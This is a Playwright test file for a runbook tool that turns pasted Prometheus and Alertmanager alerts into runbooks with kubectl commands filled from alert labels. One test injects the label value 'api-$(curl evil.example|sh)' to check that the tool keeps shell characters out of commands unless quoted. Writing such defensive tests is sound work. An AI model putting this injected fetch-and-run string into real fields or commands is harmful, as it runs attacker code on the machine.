import type { Page } from '@playwright/test';
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { gitAvailable } from '../support/git-fixtures';
import { expect, test } from './fixtures';
import { savedFilesFolder } from './host';
import { lookAt } from './look-at';
import { serveRepositoryEachTest, syncFromSettings } from './sync-helpers';

// The night starts with an alert, not a search box. The prometheus-operator-shaped and the
// OpenShift-shaped runbook repositories (test/fixtures/public-shapes) are synced from a real Git
// server; alerts are pasted as a responder would get them (Alertmanager's webhook JSON, the
// notification line, an e-mail body) and each opens its runbook, its commands filled from the
// alert's labels. Declaring from an alert puts the alert in the incident's timeline and export.

const SHAPES = path.join(import.meta.dirname, '..', 'fixtures', 'public-shapes');

async function filesUnder(folder: string): Promise<Record<string, string>> {
  const files: Record<string, string> = {};
  for (const entry of await readdir(path.join(SHAPES, folder), { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue;
    const full = path.join(entry.parentPath, entry.name);
    files[path.relative(SHAPES, full)] = await readFile(full, 'utf8');
  }
  return files;
}

const STARTED = '2026-12-01T02:13:00Z';

function webhookPayload() {
  const alert = (labels: Record<string, string>, annotations: Record<string, string>) => ({
    status: 'firing',
    labels,
    annotations,
    startsAt: STARTED,
    endsAt: '0001-01-01T00:00:00Z',
    generatorURL: 'http://prometheus.example:9090/graph?g0.expr=x',
    fingerprint: Math.random().toString(16).slice(2, 18),
  });
  return JSON.stringify({
    version: '4',
    groupKey: '{}:{namespace="payments"}',
    status: 'firing',
    receiver: 'oncall',
    groupLabels: { namespace: 'payments' },
    commonLabels: { namespace: 'payments', severity: 'critical' },
    commonAnnotations: {},
    externalURL: 'http://alertmanager.example:9093',
    truncatedAlerts: 0,
    alerts: [
      alert({ alertname: 'KubePodCrashLooping', namespace: 'payments', pod: 'api-7f9c4d-x2x8q', container: 'api', severity: 'critical' }, { summary: 'Pod is crash looping.', description: 'Pod payments/api-7f9c4d-x2x8q (api) is restarting 2.1 times / 10 minutes.' }),
      alert(
        { alertname: 'KubePersistentVolumeFillingUp', namespace: 'payments', persistentvolumeclaim: 'data-ledger-0', severity: 'critical' },
        { summary: 'PersistentVolume is filling up.', runbook_url: 'https://runbooks.prometheus-operator.dev/runbooks/kubernetes/kubepersistentvolumefillingup' },
      ),
      alert({ alertname: 'KubeClientCertificateExpiration', job: 'apiserver', severity: 'warning' }, { summary: 'Client certificate is about to expire.' }),
    ],
  });
}

/** Pastes text into the search palette, as Ctrl+V would. */
async function pasteInPalette(page: Page, text: string) {
  await page.evaluate((value) => navigator.clipboard.writeText(value), text);
  await page.keyboard.press('Control+K');
  await expect(page.getByRole('combobox', { name: 'Search runbooks' })).toBeFocused();
  await page.keyboard.press('Control+V');
  await expect(page.getByRole('heading', { level: 1, name: 'From an alert' })).toBeVisible();
}

/** Settings → Published runbook sites (the Settings screen is open after a sync from it). */
async function publishedSite(page: Page, line: string) {
  await page.getByLabel('Published runbook sites').fill(line);
  await page.getByRole('button', { name: 'Save settings' }).click();
  await expect(page.getByText('Settings saved.')).toBeVisible();
}

const alertRows = (page: Page) => page.getByRole('list', { name: 'Alerts' }).getByRole('article');

/** Enter on the chosen alert: its runbook, the alert's context above it. */
async function openChosen(page: Page, title: string) {
  await page.keyboard.press('Enter');
  await expect(page.getByRole('heading', { level: 1, name: title })).toBeVisible();
  return page.getByRole('region', { name: 'From the alert' });
}

test.describe('alerts in, runbooks out', () => {
  test.skip(!gitAvailable(), 'needs git installed: the test Git server is git http-backend');

  test.describe('the prometheus-operator repository', () => {
    const repository = serveRepositoryEachTest('prometheus-operator', () => filesUnder('content'));

    test('a webhook payload of three alerts: each opens its runbook filled from its labels; declared, the alert is in the timeline and the export', async ({ launch, profile }) => {
      test.setTimeout(120_000);
      const { page, readClipboard } = await launch(profile);
      await syncFromSettings(page, repository.url());
      await expect(page.getByText(/Synced: 5 runbooks added/)).toBeVisible({ timeout: 30_000 });
      // The team's published site: its runbook_url links open the library's files.
      await publishedSite(page, 'https://runbooks.prometheus-operator.dev/runbooks/ content/runbooks');
      await page.keyboard.press('Control+1');

      await pasteInPalette(page, webhookPayload());
      await expect(alertRows(page)).toHaveCount(3);
      await expect(page.getByText('3 alerts, read from an Alertmanager payload')).toBeVisible();
      const first = alertRows(page).nth(0);
      await expect(first).toContainText('KubePodCrashLooping');
      await expect(first).toContainText('firing');
      await expect(first).toContainText('pod=api-7f9c4d-x2x8q');
      await expect(first).toContainText('Runbook: Kube Pod Crash Looping');
      await expect(first).toBeFocused();
      await lookAt(page, 'alerts-webhook');

      // 1. Named in the runbook's `alerts:`; its declared parameters take the labels of the same name.
      let context = await openChosen(page, 'Kube Pod Crash Looping');
      await expect(context).toContainText('From the alert KubePodCrashLooping (firing)');
      await lookAt(page, 'alerts-runbook-opened');
      await expect(page.locator('.code-block').first()).toContainText('kubectl -n payments describe pod api-7f9c4d-x2x8q');
      await page.locator('.code-block').first().getByRole('button', { name: /Copy/ }).click();
      await expect.poll(readClipboard).toBe('kubectl -n payments describe pod api-7f9c4d-x2x8q');
      await lookAt(page, 'alerts-runbook-filled');

      // 2. Found by its runbook_url through the site base; `claim` takes the label it names (`from_label`).
      await page.goBack();
      await expect(alertRows(page).nth(0)).toBeFocused();
      await page.keyboard.press('ArrowDown');
      await expect(alertRows(page).nth(1)).toContainText('the alert’s runbook link');
      context = await openChosen(page, 'Kube Persistent Volume Filling Up');
      await expect(context).toContainText('claim from the label persistentvolumeclaim');
      await expect(page.locator('.code-block').last()).toContainText('kubectl -n payments patch pvc data-ledger-0');

      // 3. Found by its name alone. Back on the list, the alert last opened has the focus; the next
      // arrow is pressed once it has (under CI's load, arrows pressed as the page came back were
      // lost, and Enter opened another alert's runbook).
      await page.goBack();
      await expect(alertRows(page).nth(1)).toBeFocused();
      await page.keyboard.press('ArrowDown');
      await expect(alertRows(page).nth(2)).toBeFocused();
      await expect(alertRows(page).nth(2)).toContainText('named like the alert');
      await openChosen(page, 'Kube Client Certificate Expiration');

      // Declared from the first alert: title and severity from it, the alert its first event.
      await page.goBack();
      await expect(alertRows(page).nth(2)).toBeFocused();
      await page.keyboard.press('Home');
      await expect(alertRows(page).nth(0)).toBeFocused();
      await page.keyboard.press('i');
      const declare = page.getByRole('dialog', { name: 'Declare an incident' });
      await expect(declare.getByLabel('Title')).toHaveValue('Pod is crash looping.');
      // Offered selected: a title typed replaces it.
      await expect.poll(() => declare.getByLabel('Title').evaluate((field: HTMLInputElement) => [field.selectionStart, field.selectionEnd])).toEqual([0, 'Pod is crash looping.'.length]);
      // severity=critical maps to P1 through the bundled severity.yml's alert_severity.
      await expect(declare.getByLabel('Severity')).toHaveValue('P1');
      await expect(declare).toContainText('Its severity “critical” is P1 (High) by the library’s alert_severity.');
      await lookAt(page, 'alerts-declare');
      await page.keyboard.press('Enter');
      await expect(page.getByRole('heading', { level: 1, name: 'From an alert' })).toBeVisible();
      await expect(alertRows(page).nth(0)).toContainText('in the current incident');
      // A later alert joins the current incident with A.
      await page.keyboard.press('ArrowDown');
      await page.keyboard.press('a');
      await expect(page.getByRole('status').filter({ hasText: 'Added KubePersistentVolumeFillingUp' })).toContainText('it is in its timeline');
      await page.keyboard.press('Control+2');
      const timeline = page.locator('.timeline');
      await expect(timeline).toContainText('Alert KubePodCrashLooping (firing since 2026-12-01 02:13:00 UTC');
      await expect(timeline).toContainText('Alert KubePersistentVolumeFillingUp');
      await page.getByRole('button', { name: 'Save as Markdown' }).click();
      await expect(page.getByRole('status').filter({ hasText: 'Saved to' })).toBeVisible();
      const [name] = await readdir(savedFilesFolder(profile));
      const saved = await readFile(path.join(savedFilesFolder(profile), name), 'utf8');
      expect(saved).toContain('## Alerts');
      expect(saved).toContain('- Labels: `alertname=KubePodCrashLooping`, `namespace=payments`, `pod=api-7f9c4d-x2x8q`, `container=api`, `severity=critical`');
      expect(saved).toContain('| detected | 2026-12-01 02:13:00 UTC');
    });

    test('a notification line and an e-mail body open the same runbook; a label holding shell characters is used only quoted', async ({ launch, profile }) => {
      test.setTimeout(90_000);
      const { page, readClipboard } = await launch(profile);
      await syncFromSettings(page, repository.url());
      await expect(page.getByText(/Synced: 5 runbooks added/)).toBeVisible({ timeout: 30_000 });
      await page.keyboard.press('Control+1');

      await pasteInPalette(page, '[FIRING:1] KubePodCrashLooping (api payments api-7f9c4d-x2x8q critical)\nLabels:\n - alertname = KubePodCrashLooping\n - namespace = payments\n - pod = api-7f9c4d-x2x8q\n');
      await expect(alertRows(page)).toHaveCount(1);
      await openChosen(page, 'Kube Pod Crash Looping');
      await expect(page.locator('.code-block').first()).toContainText('kubectl -n payments describe pod api-7f9c4d-x2x8q');

      const email = [
        'Subject: [FIRING:1] KubePodCrashLooping (payments)',
        '',
        '1 alert for namespace=payments',
        '',
        '[1] Firing',
        'Labels',
        'alertname = KubePodCrashLooping',
        'namespace = payments',
        'pod = api-$(curl evil.example|sh)',
        'Annotations',
        'summary = Pod is crash looping.',
        'Source: http://prometheus.example:9090/graph',
      ].join('\n');
      await pasteInPalette(page, email);
      const context = await openChosen(page, 'Kube Pod Crash Looping');
      await expect(context).toContainText('holds shell characters, not filled in');
      // Not filled: the command keeps its placeholder until the responder takes the value quoted.
      await expect(page.locator('.code-block').first()).not.toContainText('curl evil');
      // Copied as it stands, the command names the placeholder it still holds.
      await page.locator('.code-block').first().getByRole('button', { name: /Copy/ }).click();
      await expect(page.locator('.code-block').first().getByRole('button', { name: /Copied with placeholders to replace: \{\{pod\}\}/ })).toBeVisible();
      await expect.poll(readClipboard).toBe('kubectl -n payments describe pod {{pod}}');
      await page.keyboard.press('q');
      await expect(context).toContainText("'api-$(curl evil.example|sh)' (quoted for the shell)");
      await page.locator('.code-block').first().getByRole('button', { name: /Copy/ }).click();
      await expect.poll(readClipboard).toBe("kubectl -n payments describe pod 'api-$(curl evil.example|sh)'");
      await lookAt(page, 'alerts-quoted');

      // An alert no runbook answers: Enter searches for its name's words.
      await pasteInPalette(page, '[FIRING:1] KubeDeploymentReplicasMismatch (namespace=payments deployment=api)');
      await expect(alertRows(page).nth(0)).toContainText('No runbook');
      await page.keyboard.press('Enter');
      await expect(page.getByRole('combobox', { name: 'Search runbooks' })).toHaveValue('kube deployment replicas mismatch');
    });
  });

  test.describe('the OpenShift repository', () => {
    const repository = serveRepositoryEachTest('openshift', () => filesUnder('alerts'));

    test('a bare alert name and a runbook_url to GitHub open their runbooks; a run starts with the alert’s values', async ({ launch, profile }) => {
      test.setTimeout(90_000);
      const { page } = await launch(profile);
      await syncFromSettings(page, repository.url());
      await expect(page.getByText(/Synced: 4 runbooks added/)).toBeVisible({ timeout: 30_000 });
      await publishedSite(page, 'https://github.com/openshift/runbooks/blob/master/');
      await page.keyboard.press('Control+1');

      const prometheusAlerts = JSON.stringify({
        status: 'success',
        data: {
          alerts: [
            { labels: { alertname: 'HAProxyDown', namespace: 'openshift-ingress', pod: 'router-default-5c9', severity: 'critical' }, annotations: { summary: 'HAProxy is down', runbook_url: 'https://github.com/openshift/runbooks/blob/master/alerts/cluster-ingress-operator/HAProxyDown.md' }, state: 'firing', activeAt: STARTED, value: '0e+00' },
            { labels: { alertname: 'etcdMembersDown', instance: 'master-1', job: 'etcd', severity: 'critical' }, annotations: { summary: 'etcd cluster members are down.' }, state: 'firing', activeAt: STARTED, value: '1e+00' },
          ],
        },
      });
      await pasteInPalette(page, prometheusAlerts);
      await expect(alertRows(page)).toHaveCount(2);
      await expect(alertRows(page).nth(0)).toContainText('the alert’s runbook link');
      await openChosen(page, 'HAProxyDown');
      await page.goBack();
      await page.keyboard.press('ArrowDown');
      const context = await openChosen(page, 'etcdMembersDown');
      await expect(context).toContainText('node from the label instance');
      await expect(page.locator('.code-block').first()).toContainText('logs etcd-master-1 -c etcd');
      // R with no incident declares one first; the run then starts with the node the alert gave, marked as such.
      await page.keyboard.press('r');
      await page.getByRole('dialog', { name: 'Declare an incident' }).getByLabel('Title').fill('etcd member down');
      await page.keyboard.press('Enter');
      const start = page.getByRole('dialog', { name: /^Run “/ });
      await expect(start.getByLabel(/Control plane node/)).toHaveValue('master-1');
      await expect(start).toContainText('(from the alert’s label instance)');
      await page.keyboard.press('Enter');
      await expect(page.getByRole('heading', { level: 2, name: /^Step 1 of 3/ })).toBeVisible();
      // The run remembers where the value came from: its parameters say so, as its record does.
      await page.keyboard.press('p');
      await expect(page.getByRole('form', { name: 'Parameters' })).toContainText('(from the alert’s label instance)');
      await page.keyboard.press('Escape');
      await page.keyboard.press('d');
      await expect(page.getByRole('heading', { level: 2, name: /^Step 2 of 3: Diagnosis/ })).toBeVisible();
      await expect(page.locator('.code-block').first()).toContainText('logs etcd-master-1 -c etcd');
      // Elsewhere, the palette leads back to the run.
      await page.keyboard.press('Control+1');
      await page.keyboard.press('Control+K');
      await expect(page.getByRole('combobox', { name: 'Search runbooks' })).toBeFocused();
      await page.keyboard.type('>back to the run');
      await page.keyboard.press('Enter');
      await expect(page.getByRole('heading', { level: 2, name: /^Step 2 of 3: Diagnosis/ })).toBeVisible();

      await pasteInPalette(page, 'etcdMembersDown');
      await expect(alertRows(page)).toHaveCount(1);
      await expect(alertRows(page).nth(0)).toContainText('Runbook: etcdMembersDown');

      // The alert's runbook_url pasted alone opens its runbook too.
      await page.evaluate((value) => navigator.clipboard.writeText(value), 'https://github.com/openshift/runbooks/blob/master/alerts/cluster-ingress-operator/HAProxyDown.md');
      await page.keyboard.press('Control+K');
      await expect(page.getByRole('combobox', { name: 'Search runbooks' })).toBeFocused();
      await page.keyboard.press('Control+V');
      await expect(page.getByRole('heading', { level: 1, name: 'HAProxyDown' })).toBeVisible();
    });
  });
});

test('on the bundled library, a crash-looping alert from kube-state-metrics fills the crashing container into the crash runbook, never the exporter named in its service label', async ({ launch, profile }) => {
  const { page } = await launch(profile);
  await expect(page.getByRole('region', { name: 'Incident response' })).toBeVisible();
  // As kube-prometheus sends it: the scraped target (kube-state-metrics) in job and service, the workload in container and pod.
  const labels = { alertname: 'KubePodCrashLooping', namespace: 'checkout', pod: 'checkout-api-7d9f8b6c5-x2x4z', container: 'checkout-api', job: 'kube-state-metrics', service: 'kube-prometheus-stack-kube-state-metrics', severity: 'critical' };
  await pasteInPalette(page, JSON.stringify({ version: '4', status: 'firing', alerts: [{ status: 'firing', labels, annotations: { summary: 'Pod is crash looping.' }, startsAt: STARTED }] }));
  await expect(alertRows(page).nth(0)).toContainText('Application crash or high error rate');
  const context = await openChosen(page, 'Application crash or high error rate');
  await expect(context).toContainText('service from the label container: checkout-api');
  await expect(page.locator('.code-block').filter({ hasText: 'rollout undo' })).toContainText('kubectl -n checkout rollout undo deploy/checkout-api');
  await expect(page.locator('.code-block').filter({ hasText: 'kube-state-metrics' })).toHaveCount(0);
});
